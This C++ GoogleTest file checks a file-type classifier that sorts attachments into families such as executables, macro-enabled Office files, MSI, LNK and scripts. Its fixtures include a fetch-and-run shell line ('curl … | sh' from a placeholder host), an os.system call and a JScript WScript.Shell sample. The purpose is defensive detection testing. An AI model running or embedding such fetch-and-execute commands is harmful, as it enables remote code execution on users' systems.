#include "sandbox/extract/FileType.h"

#include <archive.h>
#include <archive_entry.h>
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <sstream>
#include <thread>
#include <tuple>
#include <utility>
#include <vector>

#include "base/FileName.h"

using bccsink::extensionOf;
using bccsink::sandbox::extensionMismatch;
using bccsink::sandbox::FileTyper;
using bccsink::sandbox::TrueType;

namespace {

// Debian's clamav-testfiles (deploy/install-deps.sh installs it): real files of each kind.
const std::string kClamDir = "/usr/share/clamav-testfiles";

std::string readFile(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream out;
  out << in.rdbuf();
  return out.str();
}

const FileTyper& typer() {
  static const FileTyper instance;
  return instance;
}

std::string show(const TrueType& t) {
  return "family=" + t.family + " mime=" + t.mimeType + " description=" + t.description;
}

// A zip written by libarchive's own writer, in memory.
std::string makeZip(const std::vector<std::pair<std::string, std::string>>& members) {
  std::string buf(1 << 20, '\0');
  size_t used = 0;
  archive* a = archive_write_new();
  archive_write_set_format_zip(a);
  EXPECT_EQ(archive_write_open_memory(a, buf.data(), buf.size(), &used), ARCHIVE_OK);
  for (const auto& [name, data] : members) {
    archive_entry* e = archive_entry_new();
    archive_entry_set_pathname(e, name.c_str());
    archive_entry_set_size(e, static_cast<la_int64_t>(data.size()));
    archive_entry_set_filetype(e, AE_IFREG);
    archive_entry_set_perm(e, 0644);
    EXPECT_EQ(archive_write_header(a, e), ARCHIVE_OK);
    EXPECT_EQ(archive_write_data(a, data.data(), data.size()),
              static_cast<la_ssize_t>(data.size()));
    archive_entry_free(e);
  }
  EXPECT_EQ(archive_write_close(a), ARCHIVE_OK);
  archive_write_free(a);
  buf.resize(used);
  return buf;
}

std::string contentTypes(const std::string& mainType) {
  return "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
         "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
         "<Default Extension=\"rels\" "
         "ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
         "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
         "<Override PartName=\"/word/document.xml\" ContentType=\"" +
         mainType + "\"/></Types>";
}

const std::string kDocxMain =
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const std::string kDocmMain = "application/vnd.ms-word.document.macroEnabled.main+xml";
const std::string kDocumentXml =
    "<?xml version=\"1.0\"?><w:document "
    "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
    "<w:body><w:p><w:r><w:t>Quarterly report</w:t></w:r></w:p></w:body></w:document>";

const std::string kRels =
    "<?xml version=\"1.0\"?><Relationships "
    "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship "
    "Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    "officeDocument\" Target=\"word/document.xml\"/></Relationships>";

// The parts in the order Word writes them; libmagic names OOXML by the third member.
std::string makeDocx() {
  return makeZip({{"[Content_Types].xml", contentTypes(kDocxMain)},
                  {"_rels/.rels", kRels},
                  {"word/document.xml", kDocumentXml}});
}

void put32(std::string& s, size_t at, uint32_t v) {
  for (int i = 0; i < 4; ++i) s[at + i] = static_cast<char>((v >> (8 * i)) & 0xff);
}
void put16(std::string& s, size_t at, uint16_t v) {
  s[at] = static_cast<char>(v & 0xff);
  s[at + 1] = static_cast<char>(v >> 8);
}

// The smallest OLE2 (Compound File, [MS-CFB]) that libmagic calls an MSI: 512-byte sectors;
// sector 0 the FAT, sector 1 the directory (Root Entry with MSI's CLSID
// {000C1084-0000-0000-C000-000000000046}, and \005SummaryInformation), sectors 2-9 that
// stream. libmagic reports the root CLSID only after it has read a summary-information
// property set, and the stream is 4096 bytes so that it is a regular stream, not one in the
// mini stream. Debian ships no MSI file to test with.
std::string makeMsi() {
  const uint32_t kFree = 0xFFFFFFFF, kEnd = 0xFFFFFFFE, kFatSect = 0xFFFFFFFD;
  std::string header(512, '\0');
  header.replace(0, 8, "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8);
  put16(header, 24, 0x3E);    // minor version
  put16(header, 26, 3);       // major version 3: 512-byte sectors
  put16(header, 28, 0xFFFE);  // little-endian
  put16(header, 30, 9);       // sector shift
  put16(header, 32, 6);       // mini sector shift
  put32(header, 44, 1);       // FAT sectors
  put32(header, 48, 1);       // first directory sector
  put32(header, 56, 4096);    // mini stream cutoff
  put32(header, 60, kEnd);    // no mini FAT
  put32(header, 68, kEnd);    // no DIFAT sectors
  for (int i = 0; i < 109; ++i) put32(header, 76 + 4 * i, i == 0 ? 0 : kFree);

  std::string fat(512, '\xFF');
  put32(fat, 0, kFatSect);
  put32(fat, 4, kEnd);
  for (uint32_t s = 2; s < 9; ++s) put32(fat, 4 * s, s + 1);
  put32(fat, 4 * 9, kEnd);

  auto entry = [&](const std::u16string& name, uint8_t type, uint32_t child, const char* clsid,
                   uint32_t start, uint32_t size) {
    std::string e(128, '\0');
    for (size_t i = 0; i < name.size(); ++i) put16(e, 2 * i, name[i]);
    put16(e, 64, name.empty() ? 0 : static_cast<uint16_t>(2 * (name.size() + 1)));
    e[66] = static_cast<char>(type);
    e[67] = 1;  // black
    put32(e, 68, kFree);
    put32(e, 72, kFree);
    put32(e, 76, child);
    if (clsid) e.replace(80, 16, clsid, 16);
    put32(e, 116, start);
    put32(e, 120, size);
    return e;
  };
  const char kMsiClsid[] = "\x84\x10\x0C\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46";
  std::string dir = entry(u"Root Entry", 5, 1, kMsiClsid, kEnd, 0) +
                    entry(u"\x0005SummaryInformation", 2, kFree, nullptr, 2, 4096) +
                    entry(u"", 0, kFree, nullptr, 0, 0) + entry(u"", 0, kFree, nullptr, 0, 0);

  // Property set: header, one section (FMTID_SummaryInformation) with one property,
  // PID_CODEPAGE (1) of type VT_I2 (2) = 1252.
  std::string summary(4096, '\0');
  put16(summary, 0, 0xFFFE);
  put16(summary, 6, 2);  // OS: Windows
  put32(summary, 24, 1);
  summary.replace(28, 16, "\xE0\x85\x9F\xF2\xF9\x4F\x68\x10\xAB\x91\x08\x00\x2B\x27\xB3\xD9", 16);
  put32(summary, 44, 48);  // section offset
  put32(summary, 48, 24);  // section size
  put32(summary, 52, 1);   // property count
  put32(summary, 56, 1);   // PID_CODEPAGE
  put32(summary, 60, 16);  // its offset in the section
  put32(summary, 64, 2);   // VT_I2
  put16(summary, 68, 1252);
  return header + fat + dir + summary;
}

std::string lnkHeader() {
  // ShellLinkHeader ([MS-SHLLINK] 2.1): size 0x4C, then the LNK CLSID
  // {00021401-0000-0000-C000-000000000046}; the rest zero but FileAttributes = ARCHIVE.
  std::string s(76, '\0');
  s.replace(0, 20,
            "\x4C\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46", 20);
  put32(s, 24, 0x20);
  return s;
}

std::string pngHeader() {
  // Signature and an IHDR chunk of a 1x1 RGB picture (RFC 2083, 3.1 and 4.1.1).
  return std::string(
      "\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR\x00\x00\x00\x01\x00\x00\x00\x01"
      "\x08\x02\x00\x00\x00\x90\x77\x53\xde",
      33);
}

std::string isoImage() {
  // ECMA-119 8.4: the primary volume descriptor at sector 16 (byte 32768): type 1, "CD001".
  std::string s(40 * 1024, '\0');
  s[32768] = 1;
  s.replace(32769, 5, "CD001");
  s[32774] = 1;
  return s;
}

const std::string kPlainText =
    "Hello Anna,\nthe minutes of Tuesday's meeting are below.\nRegards\n";
const std::string kJScript =
    "var shell = new ActiveXObject(\"WScript.Shell\");\nshell.Run(\"calc.exe\");\n";

}  // namespace

class FileTypeClam : public ::testing::Test {
 protected:
  void SetUp() override {
    if (!std::filesystem::is_directory(kClamDir)) {
      GTEST_FAIL() << kClamDir
                   << " is missing: install Debian's clamav-testfiles (deploy/install-deps.sh)";
    }
  }
  TrueType classifyClam(const std::string& file) {
    std::string bytes = readFile(kClamDir + "/" + file);
    EXPECT_FALSE(bytes.empty()) << file;
    return typer().classify(bytes, file);
  }
};

TEST_F(FileTypeClam, RealFilesOfEachKindGetTheirFamily) {
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"clam.exe", "pe"},          {"clam_ISmsi_ext.exe", "pe"},
      {"clam-upx.exe", "pe"},      {"clam.ole.doc", "ole-office"},
      {"clam.ppt", "ole-office"},  {"clam.pdf", "pdf"},
      {"clam.exe.rtf", "rtf"},     {"clam.exe.html", "html"},
      {"clam.zip", "archive"},     {"clam.7z", "archive"},
      {"clam.cab", "archive"},     {"clam.tar.gz", "archive"},
      {"clam.arj", "archive"},     {"clam.newc.cpio", "archive"},
      {"clam.exe.bz2", "archive"}, {"clam.mail", "other"},
  };
  for (const auto& [file, family] : cases) {
    TrueType t = classifyClam(file);
    EXPECT_EQ(t.family, family) << file << ": " << show(t);
  }
}

TEST_F(FileTypeClam, MimeTypeAndDescriptionAreLibmagicsOwn) {
  TrueType exe = classifyClam("clam.exe");
  EXPECT_EQ(exe.mimeType, "application/vnd.microsoft.portable-executable") << show(exe);
  EXPECT_EQ(exe.description.rfind("PE32 executable (GUI) Intel 80386", 0), 0u) << show(exe);
  TrueType doc = classifyClam("clam.ole.doc");
  EXPECT_EQ(doc.mimeType, "application/msword") << show(doc);
  EXPECT_EQ(doc.description.rfind("Composite Document File V2 Document", 0), 0u) << show(doc);
}

TEST(FileType, MinimalOleFileWithMsiRootClsidIsMsi) {
  TrueType t = typer().classify(makeMsi(), "setup.msi");
  EXPECT_EQ(t.family, "msi") << show(t);
  EXPECT_EQ(t.mimeType, "application/x-msi") << show(t);
  EXPECT_NE(t.description.find("MSI Installer"), std::string::npos) << show(t);
}

TEST(FileType, OoxmlTellsMacrosByVbaProjectOrContentType) {
  TrueType docx = typer().classify(makeDocx(), "report.docx");
  EXPECT_EQ(docx.family, "ooxml") << show(docx);

  std::string docm = makeZip({{"[Content_Types].xml", contentTypes(kDocxMain)},
                              {"_rels/.rels", kRels},
                              {"word/document.xml", kDocumentXml},
                              {"word/vbaProject.bin", std::string(512, 'v')}});
  TrueType withVba = typer().classify(docm, "report.docx");
  EXPECT_EQ(withVba.family, "ooxml-macro") << show(withVba);

  // The VBA part renamed: the content-type list still says macroEnabled.
  std::string renamed = makeZip({{"[Content_Types].xml", contentTypes(kDocmMain)},
                                 {"_rels/.rels", kRels},
                                 {"word/document.xml", kDocumentXml},
                                 {"word/innocent.bin", std::string(512, 'v')}});
  TrueType byContentType = typer().classify(renamed, "report.docm");
  EXPECT_EQ(byContentType.family, "ooxml-macro") << show(byContentType);

  // The same parts without [Content_Types].xml are only a zip (libmagic, seeing word/ first,
  // still says "Microsoft Word 2007+").
  std::string plain = makeZip(
      {{"word/document.xml", kDocumentXml}, {"word/vbaProject.bin", std::string(512, 'v')}});
  TrueType zip = typer().classify(plain, "report.zip");
  EXPECT_EQ(zip.family, "archive") << show(zip);
}

TEST(FileType, BuiltFilesOfEachKindGetTheirFamily) {
  std::string elf = readFile("/bin/true");
  ASSERT_GT(elf.size(), 64u);
  const std::vector<std::tuple<std::string, std::string, std::string>> cases = {
      {elf, "true", "elf"},
      {"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n", "run", "script"},
      {"#!/usr/bin/env python3\nimport os\nos.system('id')\n", "run", "script"},
      {lnkHeader(), "invoice.lnk", "lnk"},
      {pngHeader(), "logo.png", "image"},
      {kPlainText, "minutes.txt", "text"},
      {isoImage(), "invoice.iso", "disk-image"},
      {"", "empty.txt", "other"},
  };
  for (const auto& [bytes, name, family] : cases) {
    TrueType t = typer().classify(bytes, name);
    EXPECT_EQ(t.family, family) << name << ": " << show(t);
  }
}

TEST(FileType, TextIsAScriptOnlyWhenItsNameSaysSo) {
  TrueType js = typer().classify(kJScript, "invoice.js");
  EXPECT_EQ(js.family, "script") << show(js);
  EXPECT_EQ(typer().classify(kJScript, "invoice.txt").family, "text");
  EXPECT_EQ(typer().classify(kPlainText, "run.VBS").family, "script");
  EXPECT_EQ(typer().classify(kPlainText, "run.ps1").family, "script");
  EXPECT_EQ(typer().classify(kPlainText, "noext").family, "text");
  // The name never turns non-text into a script.
  EXPECT_EQ(typer().classify(pngHeader(), "x.js").family, "image");
}

TEST(FileType, DamagedZipsFallBackOnLibmagicAndNeverThrow) {
  // Cut before its central directory the package cannot be listed; libmagic still reads
  // the OOXML header in the local headers.
  std::string zip = makeDocx();
  std::string cutBytes = zip.substr(0, zip.find("PK\x01\x02"));
  ASSERT_LT(cutBytes.size(), zip.size());
  TrueType cut;
  EXPECT_NO_THROW(cut = typer().classify(cutBytes, "report.docx"));
  EXPECT_EQ(cut.family, "ooxml") << show(cut);
  // Cut in half even libmagic sees only a zip.
  EXPECT_EQ(typer().classify(zip.substr(0, zip.size() / 2), "report.docx").family, "archive");
  TrueType garbage;
  EXPECT_NO_THROW(garbage = typer().classify(std::string("PK\x03\x04garbage", 11), "x.zip"));
  EXPECT_EQ(garbage.family, "other") << show(garbage);
}

TEST(FileType, ConcurrentCallsAgree) {
  const std::string docx = makeDocx();
  std::vector<std::thread> threads;
  std::vector<int> wrong(4, 0);
  for (int i = 0; i < 4; ++i) {
    threads.emplace_back([&, i] {
      for (int n = 0; n < 50; ++n) {
        if (typer().classify(docx, "a.docx").family != "ooxml") ++wrong[i];
        if (typer().classify(pngHeader(), "a.png").family != "image") ++wrong[i];
      }
    });
  }
  for (auto& t : threads) t.join();
  for (int i = 0; i < 4; ++i) EXPECT_EQ(wrong[i], 0) << "thread " << i;
}

TEST_F(FileTypeClam, ExtensionMismatchComparesTheClaimWithTheTrueFamily) {
  TrueType exe = classifyClam("clam.exe");
  EXPECT_TRUE(extensionMismatch(extensionOf("invoice.pdf"), exe));
  EXPECT_TRUE(extensionMismatch("doc", exe));
  EXPECT_FALSE(extensionMismatch(extensionOf("setup.exe"), exe));
  EXPECT_FALSE(extensionMismatch("qqq", exe));  // no claim
  EXPECT_FALSE(extensionMismatch("", exe));

  TrueType html = classifyClam("clam.exe.html");
  EXPECT_TRUE(extensionMismatch("jpg", html));
  EXPECT_FALSE(extensionMismatch("htm", html));

  // A zip read as a plain archive with a zip-based office name is no mismatch.
  TrueType zip = classifyClam("clam.zip");
  EXPECT_FALSE(extensionMismatch("odt", zip));
  EXPECT_FALSE(extensionMismatch("docx", zip));
  EXPECT_TRUE(extensionMismatch("pdf", zip));
}

TEST(FileType, ExtensionMismatchOnBuiltFiles) {
  TrueType docx = typer().classify(makeDocx(), "report.docx");
  EXPECT_FALSE(extensionMismatch(extensionOf("report.docx"), docx)) << show(docx);
  EXPECT_TRUE(extensionMismatch("xls", docx)) << show(docx);

  TrueType text = typer().classify(kPlainText, "a.txt");
  EXPECT_FALSE(extensionMismatch(extensionOf("a.txt"), text)) << show(text);
  EXPECT_TRUE(extensionMismatch("exe", text));

  TrueType js = typer().classify(kJScript, "a.js");
  EXPECT_FALSE(extensionMismatch("js", js));

  TrueType empty = typer().classify("", "a.pdf");
  EXPECT_FALSE(extensionMismatch("pdf", empty)) << show(empty);
}
